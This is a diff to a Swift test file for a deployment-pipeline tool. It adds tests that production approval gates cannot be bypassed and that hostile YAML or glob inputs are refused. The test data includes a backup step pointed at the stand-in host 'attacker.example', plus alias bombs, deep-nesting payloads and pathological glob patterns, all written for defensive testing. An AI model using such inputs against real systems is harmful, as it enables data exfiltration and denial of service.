@@ -80,7 +80,7 @@ import Testing
 
     @Test func withoutAPolicyTheFilesConfirmStillApplies() throws {
         let definition = try pipeline(Self.bare.replacingOccurrences(of: "environment: production\n", with: "environment: production\ngates: { confirm: YES }\n"))
-        #expect(refusal(definition, nil, request()) == "gate confirm: production in production needs --confirm \"YES\"")
+        #expect(refusal(definition, nil, request()) == "gate confirm: pipeline production needs --confirm \"YES\"")
         #expect(refusal(definition, nil, request(confirm: "no")) == "gate confirm: the confirmation text does not match; type exactly \"YES\"")
         _ = try effective(definition, nil, request(confirm: "YES"))
     }
@@ -170,6 +170,31 @@ import Testing
         #expect(reason.contains("policy line 5, protection.approvals"))
     }
 
+    @Test func theGateCannotBeSkippedByAConditionOrAPathFilter() throws {
+        for filter in ["if: \"${{ run.ref }} == 'nope'\"", "when: { paths: [nothing/**] }"] {
+            let definition = try pipeline("""
+                pipeline: production
+                environment: production
+                steps:
+                  - { id: ok, kind: approval, \(filter), with: { timeout: 1h } }
+                  - { id: deploy, kind: noop, needs: [ok] }
+                """)
+            let reason = try #require(refusal(definition, try policy(Self.production), request(confirm: "DEPLOY TO PRODUCTION")))
+            #expect(reason.hasPrefix("approval step 'ok' (line 4) is the environment's gate and cannot have if: or when:"), "\(reason)")
+        }
+        let clash = try pipeline(Self.bare.replacingOccurrences(of: "id: page", with: "id: approval"))
+        #expect(refusal(clash, try policy(Self.production), request(confirm: "DEPLOY TO PRODUCTION"))?.contains("is named 'approval'") == true)
+    }
+
+    @Test func backupsGoWhereTheEnvironmentSaysNotWhereTheFileSays() throws {
+        let definition = try pipeline("""
+            pipeline: production
+            environment: production
+            steps: [{ id: b, kind: backup, with: { source: { paths: [x] }, to: "s3://gantry-backups/production/x/", endpoint: "https://attacker.example" } }]
+            """)
+        #expect(refusal(definition, try policy(Self.production), request(confirm: "DEPLOY TO PRODUCTION"))?.contains("with.endpoint: environment production") == true)
+    }
+
     @Test func approversNoListSharesAreRefused() throws {
         let definition = try pipeline("""
             pipeline: production
@@ -200,7 +225,7 @@ import Testing
                 == "environment production (policy line 6, protection.refs): give the ref being deployed (--ref); it must match main, release/*")
         #expect(refusal(definition, policy, request(ref: "feature/x", confirm: "DEPLOY TO PRODUCTION"))?.contains("ref feature/x may not deploy here") == true)
         _ = try effective(definition, policy, request(ref: "release/2026.12", confirm: "DEPLOY TO PRODUCTION"))
-        #expect(refusal(definition, policy, request())?.hasPrefix("gate confirm: production in production needs --confirm") == true)
+        #expect(refusal(definition, policy, request())?.hasPrefix("gate confirm: pipeline production needs --confirm") == true)
         let other = try pipeline(Self.bare.replacingOccurrences(of: "pipeline: production", with: "pipeline: hotfix"))
         #expect(refusal(other, policy, request(confirm: "DEPLOY TO PRODUCTION"))
                 == "environment production (policy line 7, protection.pipelines): pipeline hotfix may not run here; allowed: production")
@@ -365,6 +390,30 @@ import Testing
         PipelineParser().parse(text, file: "p.yml").diagnostics.first?.description
     }
 
+    @Test func oneLargeStringRepeatedByAliasesIsRefused() {
+        let big = String(repeating: "x", count: 200_000)
+        let text = "pipeline: p\nsteps: [{ id: a, kind: noop, with: { s: &s \"\(big)\", list: [" + Array(repeating: "*s", count: 100).joined(separator: ", ") + "] } }]\n"
+        #expect(problem(text)?.contains("more than 4194304 bytes of text") == true)
+    }
+
+    /// Each way past a naive scan that the security review found: the composer must never see them.
+    @Test(arguments: [
+        "a: &x " + String(repeating: "[", count: 100_000),
+        "--- !!seq " + String(repeating: "[", count: 100_000),
+        "[a'b, " + String(repeating: "[", count: 100_000),
+        "#\r" + String(repeating: "- ", count: 100_000) + "x",
+        "#\u{2028}" + String(repeating: "[", count: 100_000),
+        "#\u{85}" + String(repeating: "[", count: 100_000),
+        "a: !t |\r\n  'x\nb: " + String(repeating: "[", count: 100_000),
+        "a: |4\n  b: " + String(repeating: "[", count: 100_000),
+        "a:\t" + String(repeating: "[", count: 100_000),
+        "{\"a\":" + String(repeating: "[", count: 100_000),
+        "? " + String(repeating: "[", count: 100_000),
+    ])
+    func scanBypassesAreCaught(text: String) {
+        #expect(NestingProbe.refuses(text), "\(text.prefix(30).debugDescription)")
+    }
+
     @Test func aliasBombIsRefusedQuickly() {
         var text = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
         for level in 1...9 {
@@ -416,6 +465,26 @@ import Testing
         #expect(problem(text)?.hasPrefix("p.yml:1:1: the file is") == true)
     }
 
+    @Test func manyHostilePatternsAgainstManyFilesStayCheap() throws {
+        // 64 distinct patterns of 16 stars, against a megabyte of changed files: ~2e9 steps unbounded.
+        let steps = (0..<64).map { index in "  - { id: s\(index), kind: noop, when: { paths: [\"" + String(repeating: "*a", count: 16) + "b\(index)\"] } }" }
+        let definition = try #require(PipelineParser().parse("pipeline: p\nsteps:\n" + steps.joined(separator: "\n"), file: "p.yml").definition)
+        let files = (0..<1_000).map { _ in String(repeating: "a", count: 1_000) }
+        let start = ContinuousClock.now
+        let plan = PipelinePlan.make(definition, changedFiles: files, params: [:], ref: nil, environment: nil)
+        let elapsed = ContinuousClock.now - start
+        // The budget stopped it (in a debug build, well under a minute; in release, a fraction of a
+        // second), and what it could not decide runs rather than being skipped.
+        #expect(elapsed < .seconds(30), "\(elapsed)")
+        let skipped = plan.levels.joined().filter { $0.skipReason != nil }.count
+        #expect(skipped < 64)
+        var budget = 1_000
+        #expect(PathGlob.Compiled("*a*a*a*ab").matches(String(repeating: "a", count: 1_000), budget: &budget) == nil)
+        #expect(PathGlob.Compiled("src/**/*.go").matches("src/a/b.go", budget: &budget) == nil)
+        var plenty = 1_000_000
+        #expect(PathGlob.Compiled("src/**/*.go").matches("src/a/b.go", budget: &plenty) == true)
+    }
+
     @Test func globsStayLinear() {
         let pattern = String(repeating: "*a", count: 40) + "b"
         let path = String(repeating: "a", count: 4_000)
@@ -426,5 +495,13 @@ import Testing
         #expect(!PathGlob.matches("**/b", "xb"))
         #expect(PathGlob.matches("**/b", "x/b"))
         #expect(PathGlob.matches("release/*", "release/2026.12"))
+    }
+}
+
+/// Whether the parser refuses a text before composing it (a crash would end the test run).
+enum NestingProbe {
+    static func refuses(_ text: String) -> Bool {
+        let problem = PipelineParser().parse(text, file: "p.yml").diagnostics.first?.message ?? ""
+        return problem.contains("nesting deeper than") || problem.contains("not valid YAML")
     }
 }
